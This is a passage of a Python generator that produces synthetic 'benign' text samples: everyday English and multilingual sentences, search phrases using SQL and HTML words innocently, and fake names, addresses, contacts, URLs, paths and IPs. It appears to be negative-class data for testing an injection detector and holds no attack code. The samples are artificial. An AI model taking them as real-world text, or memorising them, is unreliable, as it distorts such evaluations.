                   f"{d.randint(0, 23):02d}:{d.randint(0, 59):02d}", f"{d.randint(1, 12)}pm",
                   "noon", "half past " + str(d.randint(1, 12))])


def sentence_case(s):
    return s[:1].upper() + s[1:]


@family("benign", "prose_en")
def benign_prose_en(d):
    n = d.randint(2, 12)
    nm, nm2 = d.pick(FIRST), d.pick(FIRST)
    it, it2, fd = d.pick(ITEMS), d.pick(ITEMS), d.pick(FOODS)
    pl, day, t = d.pick(PLACES), d.pick(DAYS), clock(d)
    adj = d.pick(ADJ)
    proverb = d.pick(["Measure twice, cut once", "Better late than never",
                      "Where there's a will, there's a way", "Don't count your chickens",
                      "It's not rocket science", "The early bird catches the worm",
                      "You can't judge a book by its cover", "Actions speak louder than words",
                      "It's raining cats and dogs", "Rome wasn't built in a day",
                      "Every cloud has a silver lining", "Home is where the heart is"])
    templates = [
        f"Don't forget {nm}'s birthday on {day}!",
        f"It's {d.randint(1, 12)} o'clock and the {it} still isn't here.",
        f"We're meeting at {pl} - {nm} said it's \"the best in town\".",
        f"I can't believe it's already {d.pick(MONTHS)}.",
        f"{nm} {d.pick(LAST)}'s rock'n'roll band plays {day} night at {pl}.",
        f"The \"{adj}\" {it} arrived, but the box was damaged.",
        f"Y'all should've seen {nm}'s face when the {it} broke.",
        f"She said, 'I'll be there by {t}.'",
        f"Is {pl} open on {day}? We'd like a table for {n}.",
        f"My kids' favourite is the {fd}; mine's the {d.pick(FOODS)}.",
        f"Please call me back, I'm free after {t}.",
        f"Rock 'n' roll isn't dead, it's just resting.",
        f"What's the difference between a {it} and a {it2}?",
        f"{nm} & {nm2}'s wedding is on {day} the {d.randint(1, 28)}th.",
        f"We'll need {n} chairs, {d.randint(1, 6)} tables and a projector.",
        f"{d.randint(3, 5)} stars - wouldn't change a thing about the {it}.",
        f"Ordered the {it} on {day}; it came {d.pick(['two days later', 'the next morning', 'a week late', 'on time'])}.",
        f"\"{proverb}\", as my gran used to say.",
        f"{proverb}, right?",
        f"The '{d.pick(['60', '70', '80', '90'])}s were a {adj} decade for music.",
        f"I'd rather have {fd} than {d.pick(FOODS)} tonight, if that's OK.",
        f"Who's bringing the {fd} to {nm}'s on {day}?",
        f"You're welcome! Let me know if there's anything else.",
        f"The {it} is {adj}, but it's a bit {d.pick(['loud', 'heavy', 'small', 'pricey', 'slow'])}.",
        f"{nm} isn't coming; she's got a cold.",
        f"He said \"no\" and walked off - typical {nm}!",
        f"It's {n} degrees out and they've turned the heating on.",
        f"Thanks a million, {nm}. Couldn't have done it without you.",
        f"Our {it} stopped working after {n} weeks. Can I get a refund?",
        f"Could you send the invoice to {nm} in accounts? Cheers.",
        f"The meeting's been moved from {day} to {d.pick(DAYS)} at {t}.",
        f"I've read \"{d.pick(['Ulysses', 'Dracula', 'Emma', 'Dubliners', 'The Hobbit', 'Middlemarch'])}\" {n} times and I'd read it again.",
        f"Bring a coat, it's {d.pick(['freezing', 'lashing', 'windy', 'bucketing down'])} in {d.pick(CITIES)}.",
        f"Let's grab {fd} near {pl} after work?",
        f"Sorry I'm late - the {d.pick(['bus', 'train', 'tram', 'Luas', 'ferry'])} was {n} minutes behind.",
        f"Can't find my {it} anywhere; has anyone seen it?",
        f"The kids' {d.pick(['play', 'concert', 'match', 'sports day'])} starts at {t} sharp.",
        f"Great service, the staff at {pl} couldn't have been nicer.",
        f"I won't be in {day}, I've a dentist's appointment.",
        f"{nm}'s dog ate my {it}. True story.",
    ]
    return d.pick(templates)


INTL = {
    "fr": dict(
        names=["Chloé", "Léa", "Hugo", "Louis", "Inès", "Théo", "Amélie", "Gaël"],
        cities=["Paris", "Lyon", "Marseille", "Nice", "Bordeaux", "Lille", "Nantes", "Québec"],
        items=["croissants", "baguettes", "crêpes", "macarons", "fromages"],
        phrases=["C'est la vie", "Ça va bien se passer", "On verra demain", "Pas de souci"],
        t=["C'est l'été, on part à {city} le {n} {month} !", "J'aime l'hiver, mais l'été c'est mieux.",
           "Aujourd'hui, {name} m'a dit : « {phrase} ».", "Qu'est-ce qu'on mange ce soir ? Des {item} ?",
           "L'hôtel est à {n} km d'ici, n'est-ce pas ?", "Il fait {n} °C à {city} aujourd'hui.",
           "Je n'ai pas reçu ma commande n° {big}.", "C'était génial, merci à l'équipe de {city} !",
           "Où est la gare ? Je l'ai cherchée partout.", "On se retrouve à {hr} h devant l'église ?",
           "J'ai acheté {n} {item} pour l'apéro.", "{name} s'est trompé d'adresse, c'est rue de l'Église.",
           "Ça coûte {n},{cents} € ; c'est un peu cher, non ?", "L'été dernier, on était à {city}."],
        months=["janvier", "février", "mars", "avril", "mai", "juin", "juillet", "août"]),
    "de": dict(
        names=["Jürgen", "Anneliese", "Lukas", "Sophie", "Maximilian", "Lena", "Jörg", "Käthe"],
        cities=["Berlin", "München", "Köln", "Hamburg", "Düsseldorf", "Wien", "Zürich", "Leipzig"],
        items=["Brötchen", "Brezeln", "Äpfel", "Würstchen", "Kekse"],
        phrases=["Alles klar", "Kein Problem", "Das passt schon", "Bis später"],
        t=["Ich hätte gern {n} {item}, bitte.", "Das Wetter in {city} ist heute schön, oder?",
           "Wir treffen uns um {hr} Uhr am Bahnhof.", "„{phrase}“, sagte {name}.",
           "Könnten Sie mir bitte die Rechnung schicken?", "Mein Auto ist in der Werkstatt, ich komme später.",
           "Grüße aus {city}! Es ist kalt, aber schön.", "Die Bestellung Nr. {big} ist noch nicht da.",
           "Ich geh' jetzt nach Hause, bis morgen!", "Wie geht's dir, {name}?",
           "Der Zug nach {city} hat {n} Minuten Verspätung.", "Das kostet {n},{cents} € pro Stück.",
           "Wo ist die nächste Apotheke?", "Am {n}. {month} habe ich Geburtstag."],
        months=["Januar", "Februar", "März", "April", "Mai", "Juni", "Juli", "August"]),
    "es": dict(
        names=["Lucía", "José", "Sofía", "Mateo", "Nuria", "Íñigo", "Begoña", "Álvaro"],
        cities=["Madrid", "Sevilla", "Valencia", "Málaga", "Bilbao", "Bogotá", "Lima", "México"],
        items=["churros", "empanadas", "tapas", "naranjas", "tortillas"],
        phrases=["¡Qué bien!", "No pasa nada", "Hasta luego", "Vale, perfecto"],
        t=["¿Dónde está la estación de {city}?", "¡Qué bonito día en {city}!",
           "Mañana a las {hr} nos vemos en la plaza.", "Me encanta la paella de mi abuela.",
           "El pedido n.º {big} llegó ayer, ¡gracias!", "«{phrase}», dijo {name}.",
           "¿Cuánto cuesta el kilo de {item}? Son {n} euros.", "Mi hermano vive en {city} desde {year}.",
           "¿Me pasas la sal, por favor?", "Hoy hace {n} grados en {city}, ¡qué calor!",
           "Compré {n} {item} para la fiesta de {name}.", "El {n} de {month} es mi cumpleaños.",
           "¿Has visto mis llaves? No las encuentro.", "Perdón, llego {n} minutos tarde."],
        months=["enero", "febrero", "marzo", "abril", "mayo", "junio", "julio", "agosto"]),
    "ga": dict(
        names=["Seán", "Siobhán", "Pádraig", "Aoife", "Niamh", "Ciarán", "Máire", "Eoin"],
        cities=["Baile Átha Cliath", "Corcaigh", "Gaillimh", "Luimneach", "Port Láirge",
                "Cill Chainnigh", "Trá Lí", "Doire"],
        items=["cupáin tae", "brioscaí", "úlla", "builíní aráin", "ticéid"],
        voc=["a Sheáin", "a Shiobhán", "a Phádraig", "a Aoife", "a Niamh", "a Chiaráin", "a Mháire", "a Eoin"],
        phrases=["Go raibh maith agat", "Slán go fóill", "Níl aon tinteán mar do thinteán féin", "Ar aghaidh linn"],
        t=["Dia duit, {voc}, conas atá tú?", "Tá sé fuar inniu, {voc}.",
           "Go raibh maith agat, {voc}!", "Is as {city} mé ó dhúchas.",
           "Beidh mé ann ar a {hr} a chlog.", "Slán go fóill, feicfidh mé thú amárach.",
           "Ní thuigim, an féidir leat é a rá arís?", "Tá an aimsir go hálainn inniu.",
           "Lá fhéile Pádraig sona daoibh!", "\"{phrase}\", arsa {name}.",
           "Ba mhaith liom {n} {item}, le do thoil.", "Tá {name} Ó Súilleabháin ag obair sa chathair.",
           "Cá bhfuil an stáisiún traenach?", "Bhí an cluiche ar siúl ar an {n}ú lá de Mheán Fómhair."],
        months=[]),
    "it": dict(
        names=["Giulia", "Marco", "Francesca", "Niccolò", "Chiara", "Luca", "Sofia", "Matteo"],
        cities=["Roma", "Milano", "Napoli", "Torino", "Firenze", "Bologna", "Venezia", "Palermo"],
        items=["cornetti", "pizze", "arancini", "biglietti", "gelati"],
        phrases=["Va bene", "Non c'è problema", "A dopo", "Che bello!"],
        t=["Com'è andata la giornata, {name}?", "L'albergo è vicino alla stazione di {city}.",
           "Dov'è il ristorante? Ho prenotato per {n} persone.", "C'è un problema con l'ordine n. {big}.",
           "Un caffè e un cornetto, per favore.", "Quest'anno andiamo in vacanza a {city}.",
           "Buongiorno {name}, a che ora ci vediamo?", "«{phrase}», ha detto {name}.",
           "Ho comprato {n} {item} per stasera.", "Oggi a {city} ci sono {n} gradi.",
           "Perché non mi hai chiamato ieri?", "L'appuntamento è alle {hr} in punto.",
           "Costa {n},{cents} €, un po' caro.", "Il giorno {n} {month} è il mio compleanno."],
        months=["gennaio", "febbraio", "marzo", "aprile", "maggio", "giugno", "luglio", "agosto"]),
    "nl": dict(
        names=["Sanne", "Daan", "Femke", "Joris", "Lotte", "Bram", "Ineke", "Sjoerd"],
        cities=["Amsterdam", "Rotterdam", "Utrecht", "Den Haag", "Eindhoven", "Groningen", "Gent", "Antwerpen"],
        items=["stroopwafels", "kaasjes", "broodjes", "fietsbanden", "tulpen"],
        phrases=["Geen probleem", "Tot straks", "Dat klopt", "Lekker belangrijk"],
        t=["Hoe laat gaat de trein naar {city}?", "Ik heb 's ochtends geen tijd, sorry.",
           "Het is mooi weer vandaag, hè?", "Mijn zus woont in {city}, vlak bij het centrum.",
           "Kun je me om {hr} uur bellen?", "Dank je wel voor de snelle levering!",
           "Zo'n mooie fiets heb ik nog nooit gezien.", "De auto's en foto's staan in de garage.",
           "\"{phrase}\", zei {name}.", "Ik wil graag {n} {item} bestellen.",
           "Bestelling {big} is nog niet aangekomen.", "'s Avonds is het hier heel rustig.",
           "Het kost {n},{cents} euro per stuk.", "We zien elkaar {n} {month} in {city}."],
        months=["januari", "februari", "maart", "april", "mei", "juni", "juli", "augustus"]),
    "pl": dict(
        names=["Zofia", "Łukasz", "Agnieszka", "Michał", "Małgorzata", "Paweł", "Kasia", "Wojtek"],
        cities=["Warszawa", "Kraków", "Gdańsk", "Wrocław", "Poznań", "Łódź", "Lublin", "Szczecin"],
        items=["pierogi", "pączki", "bilety", "jabłka", "bułki"],
        phrases=["Nie ma sprawy", "Do zobaczenia", "Wszystko gra", "Dzięki"],
        t=["Dzień dobry, czy mogę zamówić pizzę dla {n} osób?", "Gdzie jest najbliższa apteka?",
           "Spotkajmy się o {hr} przy dworcu.", "Dziękuję bardzo za pomoc!",
           "Zamówienie nr {big} jeszcze nie dotarło.", "Jutro będzie padać śnieg.",
           "Mój kot ma na imię {name}.", "„{phrase}” – powiedział {name}.",
           "Kupiłam {item} na imprezę.", "Miasto: {city}, temperatura {n} °C.",
           "Ile kosztują {item}? {n},{cents} zł.", "Czy ten pociąg jedzie do {city}?",
           "Przepraszam, spóźnię się {n5} minut.", "Urodziny mam {n} {month}."],
        months=["stycznia", "lutego", "marca", "kwietnia", "maja", "czerwca", "lipca", "sierpnia"]),
    "tr": dict(
        names=["Ayşe", "Elif", "Zeynep", "Gülşen", "Emine", "Selin", "Merve", "Sevgi"],
        cities=["Ankara", "Bursa", "Antalya", "Konya", "Adana", "Alanya", "Manisa"],
        items=["simit", "çay", "bilet", "lahmacun", "baklava"],
        phrases=["Kolay gelsin", "Geçmiş olsun", "Görüşürüz", "Hiç sorun değil"],
        t=["Merhaba, nasılsınız?", "Yarın saat {hr}.00'da buluşalım.", "{city}'da hava bugün çok güzel.",
           "{name} Hanım'ın doğum günü {n} {month}.", "Sipariş numaram {big}, ne zaman gelir?",
           "Çok teşekkür ederim!", "Bir çay, bir de simit lütfen.", "\"{phrase}\" dedi {name}.",
           "{city}'ya otobüs kaçta kalkıyor?", "{n} tane {item} aldım.",
           "Fiyatı {n},{cents} TL, biraz pahalı.", "{name} Hanım'a selamlar!",
           "Toplantı {hr}.30'da başlıyor, geç kalma.", "Bu akşam {name}'lerde yemek var."],
        months=["Ocak", "Şubat", "Mart", "Nisan", "Mayıs", "Haziran", "Temmuz", "Ağustos"]),
    "ja": dict(
        names=["田中", "佐藤", "鈴木", "高橋", "山本", "中村", "小林", "加藤"],
        cities=["東京", "大阪", "京都", "札幌", "福岡", "名古屋", "横浜", "神戸"],
        items=["おにぎり", "チケット", "お茶", "本", "傘"],
        phrases=["よろしくお願いします", "大丈夫です", "また明日", "お疲れ様でした"],
        t=["こんにちは、{name}さん。お元気ですか？", "明日は{city}に行きます。",
           "注文番号{big}の商品がまだ届いていません。", "今日はとても暑いですね。",
           "「{phrase}」と{name}さんが言いました。", "{hr}時に駅で会いましょう。",
           "ありがとうございます！", "{item}を{n}個ください。", "{city}は今{n}度です。",
           "{mon}月{n2}日の予約をお願いします。", "すみません、{n}分遅れます。",
           "{name}さんの誕生日は{mon}月です。", "この{item}はいくらですか？", "{city}駅の近くに住んでいます。"],
        months=[]),
    "zh": dict(
        names=["王伟", "李娜", "张敏", "刘洋", "陈静", "杨帆", "赵磊", "黄丽"],
        cities=["北京", "上海", "广州", "深圳", "成都", "杭州", "西安", "南京"],
        items=["饺子", "咖啡", "车票", "月饼", "雨伞"],
        phrases=["没问题", "谢谢你", "明天见", "辛苦了"],
        t=["你好，{name}，今天怎么样？", "我明天去{city}出差。", "订单号{big}还没有收到，请帮忙查一下。",
           "这家餐厅的饺子很好吃。", "“{phrase}”，{name}说。", "我们{hr}点在地铁站见面吧。",
           "谢谢你的帮助！", "请给我{n}个{item}。", "{city}今天{n}度，有点冷。",
           "我的生日是{mon}月{n2}日。", "不好意思，我会晚到{n}分钟。", "{name}在{city}工作了{n}年。",
           "这个{item}多少钱？", "周末一起去{city}玩吧！"],
        months=[]),
    "ar": dict(
        names=["محمد", "فاطمة", "أحمد", "مريم", "علي", "ليلى", "يوسف", "نور"],
        cities=["القاهرة", "دبي", "الرياض", "عمّان", "بيروت", "الدار البيضاء", "تونس", "الدوحة"],
        items=["تذاكر", "كتب", "قهوة", "تمر", "هدايا"],
        phrases=["إن شاء الله", "شكرا جزيلا", "مع السلامة", "لا مشكلة"],
        t=["مرحبا، كيف حالك يا {name}؟", "سأسافر إلى {city} غدا.", "رقم الطلب {big} لم يصل بعد.",
           "شكرا جزيلا على المساعدة!", "الطقس جميل اليوم في {city}.", "نلتقي الساعة {hr} مساءً.",
           "أين أقرب صيدلية؟", "«{phrase}» قال {name}.", "أريد {n} {item} من فضلك.",
           "درجة الحرارة في {city} {n} درجة.", "عيد ميلاد {name} يوم {n}.", "سأتأخر {n} دقائق، آسف.",
           "كم سعر هذا؟", "{city} مدينة جميلة جدا."],
        months=[]),
    "ru": dict(
        names=["Ольга", "Дмитрий", "Анна", "Сергей", "Наталья", "Иван", "Екатерина", "Алексей"],
        cities=["Москва", "Санкт-Петербург", "Казань", "Новосибирск", "Екатеринбург", "Сочи", "Самара", "Омск"],
        items=["билет", "пирожок", "книга", "яблоко", "чашка"],
        phrases=["Всё в порядке", "До завтра", "Без проблем", "Спасибо большое"],
        t=["Привет, {name}! Как дела?", "{city} - красивый город.", "«{phrase}», - сказал {name}.",
           "Заказ № {big} ещё не пришёл.", "Спасибо большое за помощь!", "Встретимся в {hr} у метро.",
           "Погода: {city}, +{n} °C.", "Нужно: {item}, {n} шт.", "Я опоздаю на {n5} минут, извините.",
           "У {name} день рождения {n}-го числа.", "Сколько это стоит?", "Поезд: {city}, отправление в {hr}:00.",
           "Где ближайшая аптека?", "Город: {city}. Живём здесь уже {n5} лет."],
        months=[]),
}


@family("benign", "prose_intl")
def benign_prose_intl(d):
    lang = d.pick(sorted(INTL))
    v = INTL[lang]
    d.note("lang_" + lang)
    t = d.pick(v["t"])
    month = d.pick(v["months"]) if v["months"] else ""
    return (t.replace("{name}", d.pick(v["names"])).replace("{city}", d.pick(v["cities"]))
            .replace("{item}", d.pick(v["items"])).replace("{phrase}", d.pick(v["phrases"]))
            .replace("{month}", month).replace("{big}", str(d.randint(10000, 999999)))
            .replace("{n2}", str(d.randint(1, 28))).replace("{n5}", str(d.randint(5, 20)))
            .replace("{mon}", str(d.randint(1, 12))).replace("{hr}", str(d.randint(1, 12))).replace("{voc}", d.pick(v.get("voc", [""])))
            .replace("{n}", str(d.randint(2, 30)))
            .replace("{cents}", f"{d.randint(0, 99):02d}").replace("{year}", str(d.randint(1990, 2024))))


@family("benign", "innocent_keywords")
def benign_innocent_keywords(d):
    """Search queries and sentences that use SQL and HTML words for what they mean in English."""
    n = d.randint(2, 20)
    city, city2 = d.pick(CITIES), d.pick(CITIES)
    it, fd, day, t = d.pick(ITEMS), d.pick(FOODS), d.pick(DAYS), clock(d)
    field = d.pick(["price", "date", "rating", "distance", "name", "popularity", "newest"])
    templates = [
        f"select a table for the union hall on {day}", f"please select {n} tables for the union dinner",
        f"drop off at {t}", f"drop-off point near {d.pick(PLACES)}", "drop shipping suppliers in europe",
        f"order by {field}", f"sort and order by {field}, then by name", f"order {n} {fd} for delivery",
        f"union station to {city}", "credit union near me", "european union trade rules",
        "union jack flag for sale", f"trade union meeting {day} at {t}",
        "insert coin to continue", "how to insert a row in excel", "insert page numbers in word",
        "how do I delete my account", "delete old emails from 2019", "delete from favourites not working",
        f"where to buy a {it} from {city}", f"from {city} to {city2} by train", f"where is {d.pick(PLACES)}",
        "script for the school play", "movie script format", "cursive script fonts",
        f"script writing workshop on {day}", "javascript tutorial for beginners",
        "alert me when the price drops", f"weather alert for {city}", f"set an alert for {t}",
        "price alert on my wishlist", "why is the onload event firing twice",
        "select or deselect all checkboxes", "dogs and cats or birds", "black and white or colour?",
        "update my address", "create a new playlist", f"join the {d.pick(['choir', 'team', 'club', 'union'])}",
        "null and void meaning", "sleep tips for babies", f"can't sleep after {n} coffees",
        f"benchmark results for the {it}", "char siu pork recipe", "how to declare income from abroad",
        "cast iron pan care", f"convert {n} km to miles", "values and principles of the company",
        f"set the table for {n}", "into the woods tickets", "limit of 3 per customer",
        f"top {n} {d.pick(['films', 'books', 'albums', 'beaches', 'hikes'])} of {d.randint(1990, 2024)}",
        "group by age please", "having a great time in " + city, "like and subscribe!",
        "exec summary template", "table tennis table for sale", f"union of {n} sets in maths",
        f"drop the {it} round to mine {day}", "waitfor it... the best is yet to come",
        f"select all that apply: {fd}, {d.pick(FOODS)} or {d.pick(FOODS)}",
        "where and when is the meeting?", "either this or that, not both",
        "rock and roll or jazz", "salt and pepper", "Q&A session after the talk",
        f"fish or chicken for {n} people", "from 9 to 5, monday to friday",
        "is it 'where' or 'were'?", "the 'or' operator vs the 'and' operator",
        "Tom and Jerry", "R&D and marketing", f"order #{d.randint(1000, 99999)} not delivered",
        f"{it} with free delivery or click and collect", "having trouble logging in",
        "select committee report", "the union of the two families", "into the unknown lyrics",
        "show tables in the restaurant with a view", f"delete {n} photos from my phone",
        f"drop database course - is it worth it?", "update: the shop is now open on sundays",
        "insert a picture into the comment", "from scratch or from a kit?",
        f"we like to sleep in on {day}s", "script alert: new season of the show",
        "the table is 2 m long and 1 m wide", "where's the union bar?",
        f"ordering {n} pizzas, any preferences?", "and then there were none",
        "either or neither?", "union square farmers market", "select your seat",
        f"select your size: S, M, L or XL", "grant application deadline",
        "execute the plan on monday", "declare your goods at customs",
        "benchmark: 1 km in 4 minutes", "create account or sign in",
        "truncate the long names in the list", "alter the hem of my trousers",
    ]
    s = d.pick(templates)
    if d.chance(0.3):
        s = sentence_case(s)
    if d.chance(0.15):
        s += d.pick(["?", "!", " please", " thanks", " asap"])
    return s


COMPANIES = ["Ben & Jerry's", "Marks & Spencer", "Procter & Gamble", "O'Reilly Media",
             "McDonald's", "Toys \"R\" Us", "Müller GmbH & Co. KG", "L'Oréal", "AT&T",
             "Dunnes Stores", "Barnes & Noble", "Johnson & Johnson", "Trader Joe's", "Macy's",
             "Sainsbury's", "Lloyd's of London", "Moët & Chandon", "Crème de la Crème Ltd",
             "Häagen-Dazs", "Señor Taco's", "Bewley's Café", "Kellogg's", "Smith & Wesson"]
TRADES = ["Bakery", "Plumbing", "Pharmacy", "Butchers", "Books", "Hair Salon", "Garage",
          "Solicitors", "Accountants", "Florist", "Hardware", "Café", "Pub", "Dental Care"]


@family("benign", "names_companies")
def benign_names_companies(d):
    f, l, l2 = d.pick(FIRST), d.pick(LAST), d.pick(LAST)
    forms = [f"{f} {l}", f"{l}, {f}", f"Dr. {f} {l}", f"{f} {d.pick(FIRST)} {l}",
             f"{f} {l}-{l2.replace(' ', '')}", f"Ms {f} {l}", f"Mr. {l}", f"{f} \"{d.pick(['Red', 'Bunny', 'Mac', 'Doc', 'Smiley'])}\" {l}",
             f"{f[0]}. {l}", f"{l} {f}", f"Prof. {l}", f"{f} {l} Jr.", f"{f} {l} ({d.pick(['she/her', 'he/him', 'they/them'])})",
             f"{f} {l}, PhD", f"{l}'s {d.pick(TRADES)}", f"{l} & {l2} {d.pick(['Ltd.', 'LLP', 'Solicitors', 'and Sons', 'GmbH'])}",
             d.pick(COMPANIES), f"{d.pick(COMPANIES)} - {d.pick(CITIES)}", f"c/o {f} {l}",
             f"{f} {l} <{f.lower()}@{d.pick(DOMAINS)}>".replace("<", "(").replace(">", ")"),
             f"Attn: {l} ({d.pick(['Accounts', 'HR', 'Sales', 'Reception'])})", f"{f}-{d.pick(FIRST)} {l}",
             f"{l.upper()}, {f}", f"{f} and {d.pick(FIRST)} {l}", f"The {l} family", f"{f} {l} & Co."]
    return d.pick(forms)


@family("benign", "addresses_contact")
def benign_addresses_contact(d):
    n = d.randint(1, 250)
    f, l, city = d.pick(FIRST), d.pick(LAST), d.pick(CITIES)
    local = d.pick([f.lower(), l.lower().replace(" ", ""), f.lower() + "." + l.lower().replace(" ", ""),
                    f[0].lower() + l.lower().replace(" ", "").replace("'", ""), f"{f.lower()}{d.randint(1, 99)}",
                    f"{f.lower()}+{d.pick(['news', 'shop', 'work', 'spam'])}", f"{f.lower()}_{l.lower().replace(' ', '_')}"])
    local = ascii_fold(local) or "user"
    kind = d.wpick([("address", 5), ("email", 4), ("phone", 4), ("postcode", 1), ("handle", 1)])
    d.note(kind)
    if kind == "address":
        return d.pick([f"{n} {d.pick(STREETS)}, {city}", f"Flat {d.randint(1, 30)}, {n} {d.pick(STREETS)}, {city}",
                       f"Apt. {d.randint(1, 20)}{d.pick('ABCD')}, {n} {d.pick(STREETS)}", f"{d.pick(STREETS)} {n}, {d.randint(10000, 99999)} {city}",
                       f"{n} rue de l'Église, {d.randint(10000, 95999)} {d.pick(['Paris', 'Lyon', 'Nantes'])}", f"P.O. Box {d.randint(100, 9999)}, {city}",
                       f"Unit {d.randint(1, 9)}/{n} {d.pick(STREETS)}, {city} NSW {d.randint(2000, 2999)}",
                       f"{n} {d.pick(STREETS)}, Dublin {d.randint(1, 24)}, D{d.randint(1, 24):02d} {d.pick('ACEFHKNPRTVWXY')}{d.randint(100, 999)}",
                       f"c/o {f} {l}, {n} {d.pick(STREETS)}", f"{l} House, {d.pick(STREETS)}, {city}",
                       f"{n}{d.pick(['', 'a', 'B', ' 1/2'])} {d.pick(STREETS)}; {city}",
                       f"Calle de Alcalá {n}, 3º izq., {d.randint(28001, 28080)} Madrid", f"ul. Marszałkowska {n}/{d.randint(1, 40)}, 00-{d.randint(100, 999)} Warszawa"])
    if kind == "email":
        return d.pick([f"{local}@{d.pick(DOMAINS)}", f"{f} {l} <{local}@{d.pick(DOMAINS)}>".replace("<", "(").replace(">", ")"),
                       f"{local}@{d.pick(DOMAINS)}, {d.pick(FIRST).lower()}@{d.pick(DOMAINS)}", f"o'{l.lower().replace(chr(39), '').replace(' ', '')}@{d.pick(DOMAINS)}",
                       f"{local.upper()}@{d.pick(DOMAINS).upper()}", f"mailto:{local}@{d.pick(DOMAINS)}", f"{local}@bücher.example",
                       f"email me at {local}@{d.pick(DOMAINS)} (not the old one)"])
    if kind == "phone":
        return d.pick([f"+1 (555) 01{d.randint(0, 99):02d}-{d.randint(0, 9999):04d}", f"+44 20 7946 0{d.randint(0, 999):03d}",
                       f"+353 1 {d.randint(200, 999)} {d.randint(1000, 9999)}", f"(0{d.randint(1, 99)}) {d.randint(1000, 9999)} {d.randint(1000, 9999)}",
                       f"0049 30 {d.randint(1000000, 9999999)}", f"+81 3-{d.randint(1000, 9999)}-{d.randint(1000, 9999)}",
                       f"+33 6 {d.randint(10, 99)} {d.randint(10, 99)} {d.randint(10, 99)} {d.randint(10, 99)}", f"555.01{d.randint(0, 99):02d}",
                       f"+1-555-01{d.randint(0, 99):02d} ext. {d.randint(1, 999)}", f"08{d.randint(3, 9)} {d.randint(100, 999)} {d.randint(1000, 9999)}",
                       f"tel: +48 {d.randint(500, 899)} {d.randint(100, 999)} {d.randint(100, 999)}", f"+90 (212) {d.randint(100, 999)} {d.randint(10, 99)} {d.randint(10, 99)}",
                       f"call {f} on 01 {d.randint(100, 999)} {d.randint(1000, 9999)} after {clock(d)}"])
    if kind == "postcode":
        return d.pick([f"D{d.randint(1, 24):02d} X{d.randint(100, 999)}", f"SW1A {d.randint(1, 9)}AA", f"{d.randint(10000, 99999)}",
                       f"{d.randint(10000, 99999)}-{d.randint(1000, 9999)}", f"{d.randint(1, 99):02d}-{d.randint(100, 999)}",
                       f"T{d.randint(1, 9)}{d.pick('ABCEGH')} {d.randint(1, 9)}{d.pick('JKLM')}{d.randint(1, 9)}"])
    return d.pick([f"@{local.replace('.', '_').replace('+', '_')}", f"@{f.lower()}_{d.randint(1, 999)}", f"#{d.pick(['TBT', 'MondayMotivation', 'GAA', 'Eurovision', 'foodie'])}",
                   f"{local}#{d.randint(1000, 9999)}", f"u/{f.lower()}{d.randint(1, 99)}"])


PATH_WORDS = ["docs", "images", "src", "app", "reports", "photos", "invoices", "downloads",
              "projects", "backup", "music", "notes", "assets", "static", "data", "2024", "old"]
FILE_NAMES = ["report.pdf", "CV (final v2).docx", "holiday photo 1.jpg", "budget_2024.xlsx",
              "notes.txt", "main.py", "index.html", "logo.png", "O'Brien - contract.pdf",
              "data.csv", "Q3 results (draft).pptx", "IMG_2041.JPG", "song #3.mp3", "readme.md",
              "résumé.pdf", "plan & schedule.docx", "backup-2024-03-01.tar.gz", "app.log.1"]


def url_quote_text(d, s):
    return encode_where(s, lambda ch: not (is_alnum_ascii(ch) or ch in "-_.~"), d.chance(0.3),
                        plus=d.chance(0.6))


@family("benign", "web_paths")
def benign_web_paths(d):
    dom = d.pick(DOMAINS)
    path = "/".join(d.sample(PATH_WORDS, d.randint(1, 3)))
    q = d.pick(["running shoes", "café au lait", "o'brien's pub", "rock & roll", "cheap flights to " + d.pick(CITIES),
                "how to fix a leak", "order by price", "union station", "50% off", "\"exact phrase\"", "c++ tutorial",
                "size 10½", "naïve bayes", "北京 天气", "Köln Hbf"])
    kind = d.wpick([("url", 6), ("path", 3), ("ip", 1), ("query", 1.5)])
    d.note(kind)
    if kind == "url":
        return d.pick([f"https://{dom}/{path}?q={url_quote_text(d, q)}&page={d.randint(1, 50)}",
                       f"https://www.{dom}/search?q={url_quote_text(d, q)}&sort={d.pick(['price', 'date', 'relevance'])}&order={d.pick(['asc', 'desc'])}",
                       f"https://{dom}/p/{d.pick(ITEMS).replace(' ', '-')}-{d.randint(100, 99999)}?utm_source=newsletter&utm_medium=email&utm_campaign={d.pick(MONTHS).lower()}",
                       f"http://localhost:{d.pick([3000, 8000, 8080, 5173, 4200])}/{path}", f"https://{dom}/{path}/",
                       f"/{path}?id={d.randint(1, 9999)}&lang={d.pick(['en', 'fr', 'de', 'ga'])}", f"//cdn.{dom}/img/{d.randint(1, 999)}.webp",
                       f"ftp://files.{dom}/pub/{path}/", f"https://{dom}/{path}#section-{d.randint(1, 9)}",
                       f"https://maps.{dom}/?ll={d.randint(-90, 90)}.{d.randint(1000, 9999)},{d.randint(-180, 180)}.{d.randint(1000, 9999)}&z={d.randint(3, 18)}",
                       f"https://{dom}/wiki/{d.pick(CITIES).replace(' ', '_')}", f"https://{dom}/{path}?ref=home&from={d.pick(['menu', 'footer', 'search'])}",
                       f"https://{dom}/cart?items={d.randint(1, 99)},{d.randint(1, 99)},{d.randint(1, 99)}&coupon=SAVE{d.randint(5, 50)}"])
    if kind == "path":
        fname = d.pick(FILE_NAMES)
        user = ascii_fold(d.pick(FIRST)) or "user"
        return d.pick([f"C:\\Users\\{user}\\Documents\\{fname}", f"/home/{user.lower()}/{path}/{fname}", f"~/Downloads/{fname}",
                       f"./{path}/{fname}", f"\\\\fileserver\\shared\\{d.pick(['Finance', 'HR', 'Sales'])}\\{fname}",
                       f"/var/log/nginx/access.log.{d.randint(1, 14)}.gz", f"D:\\Photos\\{d.randint(2010, 2024)}\\{d.pick(MONTHS)}\\IMG_{d.randint(1000, 9999)}.JPG",
                       f"{path}/{fname}", f"/Users/{user}/Library/Application Support/{d.pick(['Code', 'Slack', 'Firefox'])}/",
                       f"%USERPROFILE%\\Desktop\\{fname}", f"/mnt/data/{path}/{d.randint(1, 999):03d}.csv", f"s3://bucket-{d.randint(1, 99)}/{path}/{fname}"])
    if kind == "ip":
        return d.pick([f"192.168.{d.randint(0, 255)}.{d.randint(1, 254)}", f"10.0.{d.randint(0, 255)}.{d.randint(1, 254)}:{d.pick([22, 80, 443, 8080, 5432])}",
                       f"2001:db8::{d.randint(1, 65535):x}", f"[2001:db8::{d.randint(1, 999):x}]:443", f"fe80::{d.randint(1, 65535):x}%eth0",
                       f"172.{d.randint(16, 31)}.{d.randint(0, 255)}.{d.randint(1, 254)}/{d.pick([16, 24, 32])}", f"{dom}:{d.randint(1024, 65535)}"])
